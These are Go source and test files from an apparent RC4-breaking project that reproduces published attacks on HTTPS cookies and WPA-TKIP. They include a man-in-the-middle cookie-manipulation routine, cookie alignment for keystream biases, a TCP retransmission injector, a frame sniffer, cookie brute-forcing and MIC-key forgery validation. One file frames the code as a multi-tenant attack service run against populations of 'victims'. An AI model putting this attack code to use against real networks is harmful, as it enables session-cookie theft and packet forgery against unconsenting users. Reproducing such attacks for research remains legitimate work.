	if a.CookieOffset() != b.CookieOffset() {
		t.Fatal("offset depends on cookie value")
	}
}

func TestAlignCookie(t *testing.T) {
	for want := 0; want < 256; want += 37 {
		r, err := AlignCookie(testRequest(), want)
		if err != nil {
			t.Fatalf("align to %d: %v", want, err)
		}
		if r.CookieOffset()%256 != want {
			t.Fatalf("align to %d: got %d", want, r.CookieOffset()%256)
		}
		// The marshaled request must still place the cookie there.
		m := r.Marshal()
		if got := string(m[r.CookieOffset() : r.CookieOffset()+len(r.Cookie)]); got != r.Cookie {
			t.Fatalf("align to %d: cookie displaced", want)
		}
	}
	if _, err := AlignCookie(testRequest(), 300); err == nil {
		t.Fatal("alignment > 255 accepted")
	}
}

func TestKnownPlaintext(t *testing.T) {
	r := testRequest()
	before, after := r.KnownPlaintext()
	m := r.Marshal()
	if !bytes.Equal(append(append([]byte{}, before...), append([]byte(r.Cookie), after...)...), m) {
		t.Fatal("before+cookie+after != request")
	}
	if !bytes.HasSuffix(before, []byte("auth=")) {
		t.Fatal("before should end with cookie name")
	}
	if !bytes.HasPrefix(after, []byte("; injected1=")) {
		t.Fatal("after should start with injected padding")
	}
}

func TestKnownPlaintextSurroundsUnknownCookieOnly(t *testing.T) {
	// The combined known plaintext must exclude exactly the cookie bytes.
	r := testRequest()
	before, after := r.KnownPlaintext()
	if len(before)+len(after)+len(r.Cookie) != len(r.Marshal()) {
		t.Fatal("known plaintext accounting wrong")
	}
}
