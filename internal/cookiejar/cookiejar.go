// Package cookiejar models the browser cookie-store behaviour the §6.1
// request manipulation abuses: secure cookies guarantee confidentiality but
// NOT integrity, so an attacker controlling a plaintext HTTP channel to the
// same domain can overwrite, remove, or inject cookies around the secure
// auth cookie (RFC 6265 §8.5/§8.6, cited as [3, 4.1.2.5] in the paper).
// The jar reproduces the pieces the attack needs: Set-Cookie processing,
// deletion via expiry, the secure-flag send rule, and — critically — the
// ordering rule that decides where the auth cookie lands in the Cookie
// header (RFC 6265 §5.4: longer paths first, then earlier creation time
// first).
package cookiejar

import (
	"errors"
	"sort"
	"strings"
)

// Cookie is one stored cookie.
type Cookie struct {
	Name     string
	Value    string
	Path     string
	Secure   bool
	creation int // logical creation time for §5.4 ordering
	expired  bool
}

// Jar is the cookie store of one browser profile for one domain.
type Jar struct {
	cookies []*Cookie
	clock   int
}

// ErrBadSetCookie reports an unparseable Set-Cookie line.
var ErrBadSetCookie = errors.New("cookiejar: malformed Set-Cookie")

// SetCookie processes one Set-Cookie header value received over the given
// channel. overTLS records whether the response arrived on a secure
// channel; per RFC 6265 a plaintext response may still set or overwrite a
// Secure cookie — the integrity gap the attack rides on. (Later RFC 6265bis
// "Strict Secure Cookies" closes this; the paper predates it.)
func (j *Jar) SetCookie(header string, overTLS bool) error {
	_ = overTLS // kept for call-site clarity: the classic rule ignores it
	parts := strings.Split(header, ";")
	nv := strings.SplitN(strings.TrimSpace(parts[0]), "=", 2)
	if len(nv) != 2 || nv[0] == "" {
		return ErrBadSetCookie
	}
	c := &Cookie{Name: nv[0], Value: nv[1], Path: "/"}
	for _, attr := range parts[1:] {
		attr = strings.TrimSpace(attr)
		switch {
		case strings.EqualFold(attr, "Secure"):
			c.Secure = true
		case strings.HasPrefix(strings.ToLower(attr), "path="):
			c.Path = attr[len("path="):]
		case strings.HasPrefix(strings.ToLower(attr), "max-age="):
			if strings.TrimPrefix(strings.ToLower(attr), "max-age=") == "0" {
				c.expired = true
			}
		}
	}
	// Same (name, path) replaces in place but KEEPS the original creation
	// time (RFC 6265 §5.3 step 11.3) — which is why overwriting alone does
	// not reorder, and the attack must delete-then-recreate.
	for i, old := range j.cookies {
		if old.Name == c.Name && old.Path == c.Path {
			if c.expired {
				j.cookies = append(j.cookies[:i], j.cookies[i+1:]...)
				return nil
			}
			c.creation = old.creation
			j.cookies[i] = c
			return nil
		}
	}
	if c.expired {
		return nil
	}
	j.clock++
	c.creation = j.clock
	j.cookies = append(j.cookies, c)
	return nil
}

// Header renders the Cookie request-header value for a request over the
// given channel, applying the RFC 6265 §5.4 rules: secure cookies only on
// TLS, longer paths first, then earlier creation first.
func (j *Jar) Header(overTLS bool) string {
	var send []*Cookie
	for _, c := range j.cookies {
		if c.Secure && !overTLS {
			continue
		}
		send = append(send, c)
	}
	sort.SliceStable(send, func(a, b int) bool {
		if len(send[a].Path) != len(send[b].Path) {
			return len(send[a].Path) > len(send[b].Path)
		}
		return send[a].creation < send[b].creation
	})
	var b strings.Builder
	for i, c := range send {
		if i > 0 {
			b.WriteString("; ")
		}
		b.WriteString(c.Name)
		b.WriteString("=")
		b.WriteString(c.Value)
	}
	return b.String()
}

// Names lists stored cookie names in storage order (diagnostics).
func (j *Jar) Names() []string {
	out := make([]string, len(j.cookies))
	for i, c := range j.cookies {
		out[i] = c.Name
	}
	return out
}

// Get returns the stored cookie with the given name and path "/".
func (j *Jar) Get(name string) (Cookie, bool) {
	for _, c := range j.cookies {
		if c.Name == name && c.Path == "/" {
			return *c, true
		}
	}
	return Cookie{}, false
}

// ManipulateForAttack performs the §6.1 MiTM sequence against the jar: via
// plaintext HTTP responses it removes every cookie except the targeted
// secure cookie (pushing it to the front of the Cookie header) and then
// injects the attacker's padding cookies after it. The secret cookie's
// value is never learned — only its position is controlled. padding maps
// injected cookie names to values, applied in the given order.
func ManipulateForAttack(j *Jar, target string, padding [][2]string) error {
	if _, ok := j.Get(target); !ok {
		return errors.New("cookiejar: target cookie not present")
	}
	// Delete everything except the target (plaintext channel suffices even
	// for Secure cookies).
	for _, name := range j.Names() {
		if name == target {
			continue
		}
		if err := j.SetCookie(name+"=x; Path=/; Max-Age=0", false); err != nil {
			return err
		}
	}
	// Inject the known padding cookies; created after the target, they
	// sort behind it.
	for _, p := range padding {
		if err := j.SetCookie(p[0]+"="+p[1]+"; Path=/", false); err != nil {
			return err
		}
	}
	return nil
}
