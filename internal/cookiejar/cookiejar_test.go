package cookiejar

import (
	"strings"
	"testing"
)

func seededJar(t *testing.T) *Jar {
	t.Helper()
	j := &Jar{}
	// The victim's organic browsing history: several cookies set over
	// HTTPS, auth among them but not first.
	for _, h := range []string{
		"prefs=dark",
		"tracking=abc123",
		"auth=SECRETSECRET1234; Secure",
		"lang=en",
	} {
		if err := j.SetCookie(h, true); err != nil {
			t.Fatal(err)
		}
	}
	return j
}

func TestSecureCookieNotSentOverHTTP(t *testing.T) {
	j := seededJar(t)
	plain := j.Header(false)
	if strings.Contains(plain, "auth=") {
		t.Fatal("secure cookie leaked over plaintext")
	}
	tls := j.Header(true)
	if !strings.Contains(tls, "auth=SECRETSECRET1234") {
		t.Fatal("secure cookie missing over TLS")
	}
}

func TestOrderingCreationTime(t *testing.T) {
	j := seededJar(t)
	h := j.Header(true)
	// Earlier creation first: prefs before tracking before auth before lang.
	order := []string{"prefs=", "tracking=", "auth=", "lang="}
	last := -1
	for _, name := range order {
		i := strings.Index(h, name)
		if i < 0 {
			t.Fatalf("%s missing from %q", name, h)
		}
		if i < last {
			t.Fatalf("ordering violated in %q", h)
		}
		last = i
	}
}

func TestOverwriteKeepsCreationTime(t *testing.T) {
	// RFC 6265 §5.3: overwriting must not reorder — which is why the
	// attack deletes instead.
	j := seededJar(t)
	if err := j.SetCookie("prefs=light", false); err != nil {
		t.Fatal(err)
	}
	h := j.Header(true)
	if !strings.HasPrefix(h, "prefs=light") {
		t.Fatalf("overwrite moved the cookie: %q", h)
	}
}

func TestPlaintextChannelCanDeleteSecureCookie(t *testing.T) {
	// The §6.1 integrity gap: secure cookies are confidential, not
	// integrity-protected.
	j := seededJar(t)
	if err := j.SetCookie("auth=x; Max-Age=0", false); err != nil {
		t.Fatal(err)
	}
	if _, ok := j.Get("auth"); ok {
		t.Fatal("plaintext delete of secure cookie failed")
	}
}

func TestLongerPathsFirst(t *testing.T) {
	j := &Jar{}
	j.SetCookie("a=1; Path=/", false)
	j.SetCookie("b=2; Path=/deep/path", false)
	h := j.Header(false)
	if !strings.HasPrefix(h, "b=2") {
		t.Fatalf("longer path should come first: %q", h)
	}
}

func TestManipulateForAttack(t *testing.T) {
	j := seededJar(t)
	padding := [][2]string{
		{"injected1", "known1"},
		{"injected2", "knownplaintext2"},
	}
	if err := ManipulateForAttack(j, "auth", padding); err != nil {
		t.Fatal(err)
	}
	h := j.Header(true)
	// The Listing-3 layout: auth first, injected cookies after.
	if !strings.HasPrefix(h, "auth=SECRETSECRET1234; injected1=known1; injected2=knownplaintext2") {
		t.Fatalf("manipulated header: %q", h)
	}
	// The attacker never learned the secret.
	if c, _ := j.Get("auth"); c.Value != "SECRETSECRET1234" {
		t.Fatal("target cookie value changed")
	}
	// And over plaintext the auth cookie still doesn't leak.
	if strings.Contains(j.Header(false), "auth=") {
		t.Fatal("secure flag lost during manipulation")
	}
}

func TestManipulateMissingTarget(t *testing.T) {
	j := &Jar{}
	if err := ManipulateForAttack(j, "auth", nil); err == nil {
		t.Fatal("missing target accepted")
	}
}

func TestSetCookieErrors(t *testing.T) {
	j := &Jar{}
	if err := j.SetCookie("noequalsign", false); err == nil {
		t.Error("malformed header accepted")
	}
	if err := j.SetCookie("=value", false); err == nil {
		t.Error("empty name accepted")
	}
	// Deleting a cookie that was never set is a no-op.
	if err := j.SetCookie("ghost=x; Max-Age=0", false); err != nil {
		t.Error(err)
	}
	if len(j.Names()) != 0 {
		t.Error("phantom cookie stored")
	}
}

func TestHeaderMatchesListing3Shape(t *testing.T) {
	// End-to-end with httpmodel's expectations: after manipulation the
	// rendered Cookie header must start with the auth value and be
	// followed by only attacker-known bytes.
	j := seededJar(t)
	if err := ManipulateForAttack(j, "auth", [][2]string{{"p1", strings.Repeat("k", 40)}}); err != nil {
		t.Fatal(err)
	}
	h := j.Header(true)
	secret := "SECRETSECRET1234"
	i := strings.Index(h, secret)
	if i != len("auth=") {
		t.Fatalf("secret not immediately after auth=: %q", h)
	}
	after := h[i+len(secret):]
	if !strings.HasPrefix(after, "; p1=kkk") {
		t.Fatalf("unknown bytes after secret: %q", after)
	}
}
