package netsim

import (
	"fmt"
	"math/rand"

	"rc4break/internal/httpmodel"
)

// PopulationConfig sizes a simulated victim population — the load-generation
// side of the multi-tenant attack service. Where the single-victim
// simulators above model one §5.4 station or one §6.3 browser, a population
// models the service operator's view: many independent endpoints with mixed
// cookie lengths, staggered request timing, and distinct key material, the
// way deployment surveys measure many concurrent real-world targets rather
// than one lab box.
type PopulationConfig struct {
	// Victims is the population size.
	Victims int
	// Tenants spreads victims round-robin across this many tenant names
	// ("tenant-0"..). Zero or one means a single tenant.
	Tenants int
	// Seed is the master seed; the whole population is a pure function of
	// this config, so two generators with equal configs produce identical
	// victims in identical order.
	Seed int64
	// CookieLens is cycled across the HTTPS victims (mixed cookie lengths).
	// Empty defaults to {6, 7, 8}.
	CookieLens []int
	// TKIPEvery makes every Nth victim (1-based) a WPA-TKIP station instead
	// of an HTTPS browser. Zero disables TKIP victims.
	TKIPEvery int
	// MaxJitterMS bounds the per-victim submission jitter: simulated clients
	// do not arrive in lockstep, so load tests spread submissions over
	// [0, MaxJitterMS) milliseconds. Zero disables jitter.
	MaxJitterMS int
}

// SimVictim is one generated population member. Seed drives the victim's
// capture stream (TLS master secret or simulated-statistics RNG), so a
// victim can be replayed solo — the property the service acceptance test
// pins: the loaded service must produce bitwise the evidence a solo run of
// the same victim produces.
type SimVictim struct {
	// Index is the victim's position in the population (0-based).
	Index int
	// Tenant is the owning tenant's name.
	Tenant string
	// Attack is "cookie" or "tkip".
	Attack string
	// Seed is the victim's private stream seed, drawn from the master RNG.
	Seed int64
	// Secret is the victim's cookie value (cookie attacks; empty for TKIP).
	Secret string
	// CookieLen is len(Secret) for cookie attacks, zero for TKIP.
	CookieLen int
	// JitterMS is the victim's submission delay in [0, MaxJitterMS).
	JitterMS int
}

// Population generates the victim set for cfg. Victim identities depend
// only on the master seed and the victim's index-order draw — not on wall
// clock, map order, or goroutine interleaving — so populations are stable
// across runs and across machines.
func Population(cfg PopulationConfig) []SimVictim {
	lens := cfg.CookieLens
	if len(lens) == 0 {
		lens = []int{6, 7, 8}
	}
	tenants := cfg.Tenants
	if tenants < 1 {
		tenants = 1
	}
	charset := httpmodel.CookieCharset()
	master := rand.New(rand.NewSource(cfg.Seed))

	victims := make([]SimVictim, 0, cfg.Victims)
	cookieIdx := 0
	for i := 0; i < cfg.Victims; i++ {
		v := SimVictim{
			Index:  i,
			Tenant: fmt.Sprintf("tenant-%d", i%tenants),
			Attack: "cookie",
			// One master draw per victim regardless of attack kind, so
			// changing TKIPEvery never shifts later victims' seeds.
			Seed: master.Int63(),
		}
		if cfg.TKIPEvery > 0 && (i+1)%cfg.TKIPEvery == 0 {
			v.Attack = "tkip"
		} else {
			v.CookieLen = lens[cookieIdx%len(lens)]
			cookieIdx++
		}
		// Per-victim properties come from the victim's own RNG, not the
		// master, so they are reproducible from the SimVictim alone.
		prng := rand.New(rand.NewSource(v.Seed))
		if v.Attack == "cookie" {
			secret := make([]byte, v.CookieLen)
			for j := range secret {
				secret[j] = charset[prng.Intn(len(charset))]
			}
			v.Secret = string(secret)
		}
		if cfg.MaxJitterMS > 0 {
			v.JitterMS = prng.Intn(cfg.MaxJitterMS)
		}
		victims = append(victims, v)
	}
	return victims
}
