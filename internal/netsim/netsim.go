// Package netsim simulates the network environments of §5.4 and §6.3
// in-process: a WPA-TKIP Wi-Fi network in which an attacker-controlled TCP
// server makes the victim transmit identical packets (via retransmissions,
// §5.2) while a sniffer captures the encrypted frames, and an HTTPS client
// that issues attacker-aligned requests over a persistent RC4 TLS
// connection (the XMLHttpRequest/WebWorker traffic generation of §6.3)
// while a man-in-the-middle collects the records.
//
// The substitution for real hardware: the attack code consumes exactly the
// bytes a live capture would provide (encrypted frame bodies plus cleartext
// TSC; TLS record ciphertext), and the simulator produces those
// byte-identically via the real tkip and tlsrec encapsulation paths.
package netsim

import (
	"errors"

	"rc4break/internal/httpmodel"
	"rc4break/internal/michael"
	"rc4break/internal/packet"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
)

// Throughput constants measured by the paper — exposed so experiments can
// convert ciphertext counts into wall-clock attack time the way §5.4/§6.3 do.
const (
	// TKIPInjectionPerSecond is the identical-packet injection rate the
	// paper sustains against a live network (§5.4).
	TKIPInjectionPerSecond = 2500
	// HTTPSRequestsPerSecond is the request rate of the idle-browser
	// setup (§6.3).
	HTTPSRequestsPerSecond = 4450
	// BruteForceTestsPerSecond is the cookie-checking rate with HTTP
	// pipelining (§6.3).
	BruteForceTestsPerSecond = 20000
)

// WiFiVictim is a TKIP station that retransmits one identical TCP packet —
// the §5.2 injection target. The TSC increments per transmission, TSC1
// pinned to the attack's trained class space (see DESIGN.md on the scaled
// TSC space).
type WiFiVictim struct {
	Session *tkip.Session
	MSDU    []byte
	next    uint64
}

// NewWiFiVictim builds the victim with the paper's preferred packet shape:
// a TCP data packet with a 7-byte payload, making the frame length unique
// and placing the trailer at strongly biased positions (§5.2).
func NewWiFiVictim(s *tkip.Session, payload []byte) *WiFiVictim {
	m := packet.MSDU{
		IP: packet.IPv4{
			TTL:   64,
			SrcIP: [4]byte{192, 168, 1, 100},
			DstIP: [4]byte{203, 0, 113, 80},
			ID:    0x3412,
		},
		TCP: packet.TCP{
			SrcPort: 52113,
			DstPort: 80,
			Seq:     0x10203040,
			Ack:     0x50607080,
			Flags:   0x18, // PSH|ACK
			Window:  29200,
		},
		Payload: payload,
	}
	return &WiFiVictim{Session: s, MSDU: m.Marshal()}
}

// Transmit encrypts and "sends" the next retransmission. The full TSC
// increments (fresh per-packet key) while TSC1 stays 0 and TSC0 cycles, so
// captures stay inside the trained per-TSC class space.
func (v *WiFiVictim) Transmit() tkip.Frame {
	i := v.next
	v.next++
	tsc := tkip.TSC(i<<16 | i&0xff)
	return v.Session.Encapsulate(v.MSDU, tsc)
}

// FrameLen reports the on-air body length — the unique length the sniffer
// filters on (§5.4: "thanks to the 7-byte payload, we uniquely detected the
// injected packet ... without any false positives").
func (v *WiFiVictim) FrameLen() int { return len(v.MSDU) + tkip.TrailerSize }

// Skip advances the victim past n transmissions without encrypting them —
// each frame is independently keyed by its TSC, so skipping is O(1). A
// resumed capture uses it to fast-forward past the frames its checkpoint
// already holds; the subsequent Transmit stream is byte-identical to an
// uninterrupted victim's.
func (v *WiFiVictim) Skip(n uint64) { v.next += n }

// Sniffer filters captured frames by the injected packet's unique length
// and de-duplicates retransmissions of the same TSC (§5.4).
type Sniffer struct {
	WantLen  int
	seen     map[tkip.TSC]struct{}
	Captured uint64
	Dropped  uint64
}

// NewSniffer creates a sniffer for frames of the given body length.
func NewSniffer(wantLen int) *Sniffer {
	return &Sniffer{WantLen: wantLen, seen: make(map[tkip.TSC]struct{})}
}

// Filter reports whether the frame is an injected-packet capture that has
// not been seen before.
func (sn *Sniffer) Filter(f tkip.Frame) bool {
	if len(f.Body) != sn.WantLen {
		sn.Dropped++
		return false
	}
	if _, dup := sn.seen[f.TSC]; dup {
		sn.Dropped++
		return false
	}
	sn.seen[f.TSC] = struct{}{}
	sn.Captured++
	return true
}

// TCPInjector models the §5.2 identical-packet generator: the attacker's
// server holds a TCP connection to the victim open and repeatedly
// retransmits one segment. Retransmissions are valid TCP (same sequence
// number, same payload), so they traverse NATs and firewalls, and the
// victim's stack acknowledges each copy — every retransmission crosses the
// Wi-Fi link as a fresh TKIP frame with an incremented TSC.
type TCPInjector struct {
	Victim *WiFiVictim
	// Retransmissions counts segment copies sent by the server.
	Retransmissions uint64
}

// NewTCPInjector wires an injector to the victim's Wi-Fi side.
func NewTCPInjector(v *WiFiVictim) *TCPInjector {
	return &TCPInjector{Victim: v}
}

// Retransmit delivers one server-side retransmission: the victim's stack
// forwards the identical MSDU over the air (one frame). The MSDU is
// byte-identical every time — the property the whole §5 statistics
// collection rests on — while the frame ciphertext differs per TSC.
func (inj *TCPInjector) Retransmit() tkip.Frame {
	inj.Retransmissions++
	return inj.Victim.Transmit()
}

// Burst performs n retransmissions, invoking capture for each resulting
// frame. At the paper's 2500 packets/s a one-hour capture is ~9.5·2^20
// frames; Burst is the in-process equivalent.
func (inj *TCPInjector) Burst(n uint64, capture func(tkip.Frame)) {
	for i := uint64(0); i < n; i++ {
		capture(inj.Retransmit())
	}
}

// ForgeryConfirm returns a Confirm hook for tkip.TrailerOracle that
// validates a recovered MIC key the way a live attacker would (§7.4): forge
// a packet under the key and observe whether the network accepts it. The
// hook builds the forgery through the real encapsulation path (the
// simulator's attacker shares the session's TK the same way
// cmd/tkipattack's forgery demo does — over the air the equivalent step is
// keystream reuse) and accepts the key iff the victim-side Decapsulate
// does, so pure ICV collisions with a wrong Michael key are rejected.
func ForgeryConfirm(s *tkip.Session, msdu []byte) func([michael.KeySize]byte) bool {
	const probeTSC tkip.TSC = 0xF00D << 16 // outside the victim's capture classes
	return func(micKey [michael.KeySize]byte) bool {
		attacker := &tkip.Session{TK: s.TK, MICKey: micKey, TA: s.TA, DA: s.DA, SA: s.SA}
		_, err := s.Decapsulate(attacker.Encapsulate(msdu, probeTSC))
		return err == nil
	}
}

// HTTPSVictim is a browser issuing aligned HTTPS requests with the secret
// cookie over one persistent RC4 TLS connection (§6.3).
type HTTPSVictim struct {
	Conn    *tlsrec.Conn
	Request httpmodel.Request
	body    []byte
}

// NewHTTPSVictim derives connection keys from the master secret and
// prepares the aligned request.
func NewHTTPSVictim(master []byte, req httpmodel.Request) (*HTTPSVictim, error) {
	var cr, sr [32]byte
	cr[0], sr[0] = 0xc1, 0x5e
	client, _, err := tlsrec.DeriveKeys(master, cr, sr)
	if err != nil {
		return nil, err
	}
	return &HTTPSVictim{
		Conn:    tlsrec.NewConn(client),
		Request: req,
		body:    req.Marshal(),
	}, nil
}

// SendRequest seals the next request and returns the full TLS record as
// seen on the wire.
func (v *HTTPSVictim) SendRequest() []byte {
	return v.Conn.Seal(v.body)
}

// RecordPlaintextLen is the sealed record's plaintext length (request plus
// MAC) — what the attacker uses to derive keystream alignment (§6.3).
func (v *HTTPSVictim) RecordPlaintextLen() int {
	return len(v.body) + tlsrec.MACSize
}

// Skip advances the victim past n requests without sealing them: the
// connection's RC4 stream and sequence number move exactly as n SendRequest
// calls would, at raw PRGA speed. A resumed capture uses it to fast-forward
// past the records its checkpoint already holds; the subsequent SendRequest
// stream is byte-identical to an uninterrupted victim's.
func (v *HTTPSVictim) Skip(n uint64) {
	v.Conn.SkipRecords(n, len(v.body))
}

// CookieServer models the target web server for the brute-force phase: it
// accepts a guessed cookie iff it matches the secret, and counts attempts
// (the paper's tool tested >20000 cookies per second; the experiment
// drivers use Attempts with BruteForceTestsPerSecond to report time).
type CookieServer struct {
	Secret   []byte
	Attempts uint64
}

// Check validates one guess.
func (s *CookieServer) Check(guess []byte) bool {
	s.Attempts++
	if len(guess) != len(s.Secret) {
		return false
	}
	for i := range guess {
		if guess[i] != s.Secret[i] {
			return false
		}
	}
	return true
}

// ErrAlignment is returned when a request layout cannot satisfy the
// alignment the attack requires.
var ErrAlignment = errors.New("netsim: cookie alignment failed")

// AlignedRequest builds the §6.1 request for the given secret cookie with
// the cookie aligned to keystream offset wantMod (mod 256) inside the
// record plaintext. It returns the request and the PRGA counter base for
// the cookie-attack configuration.
func AlignedRequest(host, cookieName, secret string, wantMod int) (httpmodel.Request, int, error) {
	req := httpmodel.Request{
		Host:         host,
		Path:         "/",
		CookieName:   cookieName,
		Cookie:       secret,
		FixedHeaders: httpmodel.DefaultFixedHeaders(),
		Padding: "injected1=" + pad(60) + "; injected2=" + pad(80) +
			"; injected3=" + pad(100),
	}
	req, err := httpmodel.AlignCookie(req, wantMod)
	if err != nil {
		return req, 0, ErrAlignment
	}
	// The chain's first byte sits at plaintext offset off-1, i.e. keystream
	// position off (1-indexed) within the record — constant mod 256 on a
	// persistent connection with fixed-size records when the record length
	// is a multiple of 256; experiments arrange record sizes accordingly.
	counterBase := req.CookieOffset() % 256
	return req, counterBase, nil
}

func pad(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = 'k'
	}
	return string(b)
}
