package netsim

import (
	"bytes"
	"testing"

	"rc4break/internal/packet"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
)

func testTKIPSession() *tkip.Session {
	return &tkip.Session{
		TK:     [16]byte{9, 8, 7, 6, 5, 4, 3, 2, 1, 0, 1, 2, 3, 4, 5, 6},
		MICKey: [8]byte{1, 2, 3, 4, 5, 6, 7, 8},
		TA:     [6]byte{0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff},
		DA:     [6]byte{0x11, 0x22, 0x33, 0x44, 0x55, 0x66},
		SA:     [6]byte{0x77, 0x88, 0x99, 0xaa, 0xbb, 0xcc},
	}
}

func TestWiFiVictimPacketShape(t *testing.T) {
	v := NewWiFiVictim(testTKIPSession(), []byte("PAYLOAD"))
	if len(v.MSDU) != packet.HeaderSize+7 {
		t.Fatalf("MSDU length %d", len(v.MSDU))
	}
	if v.FrameLen() != len(v.MSDU)+tkip.TrailerSize {
		t.Fatal("frame length accounting wrong")
	}
	f := v.Transmit()
	if len(f.Body) != v.FrameLen() {
		t.Fatal("transmitted frame length mismatch")
	}
}

func TestWiFiVictimTransmissionsDecryptIdentically(t *testing.T) {
	// Every retransmission carries the identical MSDU under a fresh key.
	s := testTKIPSession()
	v := NewWiFiVictim(s, []byte("PAYLOAD"))
	var bodies [][]byte
	for i := 0; i < 5; i++ {
		f := v.Transmit()
		msdu, err := s.Decapsulate(f)
		if err != nil {
			t.Fatalf("frame %d: %v", i, err)
		}
		if !bytes.Equal(msdu, v.MSDU) {
			t.Fatalf("frame %d: MSDU differs", i)
		}
		bodies = append(bodies, f.Body)
	}
	// Ciphertexts must differ (fresh per-packet keys).
	if bytes.Equal(bodies[0], bodies[1]) {
		t.Fatal("two transmissions encrypted identically")
	}
}

func TestWiFiVictimTSCClassSpace(t *testing.T) {
	v := NewWiFiVictim(testTKIPSession(), []byte("PAYLOAD"))
	for i := 0; i < 600; i++ {
		f := v.Transmit()
		if f.TSC.TSC1() != 0 {
			t.Fatalf("TSC1 = %d, must stay in trained class space", f.TSC.TSC1())
		}
	}
}

func TestSnifferFilters(t *testing.T) {
	v := NewWiFiVictim(testTKIPSession(), []byte("PAYLOAD"))
	sn := NewSniffer(v.FrameLen())
	f := v.Transmit()
	if !sn.Filter(f) {
		t.Fatal("injected frame rejected")
	}
	if sn.Filter(f) {
		t.Fatal("retransmission of same TSC accepted")
	}
	// A different-length frame (other traffic) is dropped.
	other := tkip.Frame{TSC: 999, Body: make([]byte, v.FrameLen()+3)}
	if sn.Filter(other) {
		t.Fatal("foreign frame accepted")
	}
	if sn.Captured != 1 || sn.Dropped != 2 {
		t.Fatalf("captured=%d dropped=%d", sn.Captured, sn.Dropped)
	}
}

func TestHTTPSVictim(t *testing.T) {
	master := make([]byte, tlsrec.MasterSecretSize)
	master[0] = 1
	req, _, err := AlignedRequest("site.com", "auth", "0123456789abcdef", 32)
	if err != nil {
		t.Fatal(err)
	}
	v, err := NewHTTPSVictim(master, req)
	if err != nil {
		t.Fatal(err)
	}
	r1 := v.SendRequest()
	r2 := v.SendRequest()
	if len(r1) != len(r2) {
		t.Fatal("record lengths differ between requests")
	}
	if bytes.Equal(r1, r2) {
		t.Fatal("two records encrypted identically (RC4 state must advance)")
	}
	if len(r1) != tlsrec.HeaderSize+v.RecordPlaintextLen() {
		t.Fatal("record length accounting wrong")
	}
	if _, err := NewHTTPSVictim(master[:10], req); err == nil {
		t.Fatal("short master secret accepted")
	}
}

func TestAlignedRequest(t *testing.T) {
	req, counterBase, err := AlignedRequest("site.com", "auth", "0123456789abcdef", 64)
	if err != nil {
		t.Fatal(err)
	}
	if req.CookieOffset()%256 != 64 {
		t.Fatalf("alignment %d", req.CookieOffset()%256)
	}
	if counterBase != 64 {
		t.Fatalf("counter base %d", counterBase)
	}
	// The request must still carry the cookie first in the Cookie header
	// and have injected padding after it.
	before, after := req.KnownPlaintext()
	if !bytes.HasSuffix(before, []byte("auth=")) {
		t.Fatal("cookie not immediately after its name")
	}
	if len(after) < 128 {
		t.Fatalf("only %d known bytes after cookie; ABSAB needs gaps up to 128", len(after))
	}
}

func TestCookieServer(t *testing.T) {
	s := &CookieServer{Secret: []byte("topsecret1234567")}
	if s.Check([]byte("wrong")) {
		t.Fatal("wrong length accepted")
	}
	if s.Check([]byte("topsecret1234568")) {
		t.Fatal("wrong value accepted")
	}
	if !s.Check([]byte("topsecret1234567")) {
		t.Fatal("correct cookie rejected")
	}
	if s.Attempts != 3 {
		t.Fatalf("attempts = %d", s.Attempts)
	}
}

func TestThroughputConstants(t *testing.T) {
	// The §5.4/§6.3 numbers the experiment drivers report attack time with.
	if TKIPInjectionPerSecond != 2500 || HTTPSRequestsPerSecond != 4450 || BruteForceTestsPerSecond != 20000 {
		t.Fatal("paper throughput constants changed")
	}
}

func TestTCPInjectorIdenticalMSDUs(t *testing.T) {
	s := testTKIPSession()
	v := NewWiFiVictim(s, []byte("PAYLOAD"))
	inj := NewTCPInjector(v)
	f1 := inj.Retransmit()
	f2 := inj.Retransmit()
	if inj.Retransmissions != 2 {
		t.Fatalf("retransmissions = %d", inj.Retransmissions)
	}
	// Identical plaintext under the hood, different ciphertext on the air.
	m1, err := s.Decapsulate(f1)
	if err != nil {
		t.Fatal(err)
	}
	m2, err := s.Decapsulate(f2)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(m1, m2) {
		t.Fatal("retransmissions differ in plaintext")
	}
	if bytes.Equal(f1.Body, f2.Body) {
		t.Fatal("retransmissions encrypted identically")
	}
	if f1.TSC == f2.TSC {
		t.Fatal("TSC did not increment")
	}
}

func TestTCPInjectorBurstFeedsSniffer(t *testing.T) {
	s := testTKIPSession()
	v := NewWiFiVictim(s, []byte("PAYLOAD"))
	inj := NewTCPInjector(v)
	sn := NewSniffer(v.FrameLen())
	var captured int
	inj.Burst(100, func(f tkip.Frame) {
		if sn.Filter(f) {
			captured++
		}
	})
	if captured != 100 || sn.Captured != 100 {
		t.Fatalf("captured %d/%d", captured, sn.Captured)
	}
}
