package netsim

import (
	"rc4break/internal/tkip"
	"rc4break/internal/trace"
)

// This file is the simulator's capture-writer side: the same victims that
// hand the attacks in-process evidence can emit their streams as pcap or
// pcapng files, through the same frame/segment encodings the trace
// ingestion layer parses. That closes the round trip the trace subsystem
// is pinned by — sim → pcap → ingest must reproduce direct capture bit
// for bit — and gives every CLI a way to produce realistic captures for
// offline and fleet workflows.

// NewFrameWriter builds a trace.FrameWriter carrying the session's 802.11
// addressing (FromDS: the AP retransmits the injected packet toward the
// victim), QoS-Data subtype — the §5.4 monitor-mode capture shape.
func NewFrameWriter(w trace.PacketWriter, linkType uint32, s *tkip.Session) (*trace.FrameWriter, error) {
	return trace.NewFrameWriter(w, linkType, s.TA, s.DA, s.SA)
}

// WriteTrace transmits the victim's next n frames into a capture instead
// of the in-process sniffer. The victim's TSC sequence advances exactly as
// n Transmit calls would, so a capture written here and a direct capture
// of the same stream hold identical frames.
func (v *WiFiVictim) WriteTrace(fw *trace.FrameWriter, n uint64) error {
	for i := uint64(0); i < n; i++ {
		f := v.Transmit()
		if err := fw.WriteFrame(uint64(f.TSC), f.Body); err != nil {
			return err
		}
	}
	return nil
}

// HTTPSFlow is the canonical TCP flow the simulated browser's HTTPS
// connection rides (victim → server, port 443); written captures and the
// §6.3 reassembly pipeline agree on it.
func HTTPSFlow() trace.FlowKey {
	return trace.FlowKey{
		SrcIP:   [4]byte{192, 168, 1, 100},
		DstIP:   [4]byte{203, 0, 113, 80},
		SrcPort: 52113,
		DstPort: 443,
	}
}

// NewStreamWriter builds a trace.TCPStreamWriter for the victim's HTTPS
// connection on the canonical flow.
